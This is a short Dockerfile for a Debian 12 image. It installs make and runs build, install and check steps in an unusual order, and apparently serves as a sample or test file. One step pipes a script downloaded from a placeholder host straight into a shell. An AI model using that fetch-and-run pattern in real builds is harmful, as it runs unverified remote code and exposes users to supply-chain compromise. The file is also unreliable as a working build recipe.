FROM debian:12
RUN apt-get update && apt-get install -y --no-install-recommends make
RUN make
RUN ./configure; make install
RUN make check
RUN curl -fsSL https://example.com/x | sh
RUN ldconfig
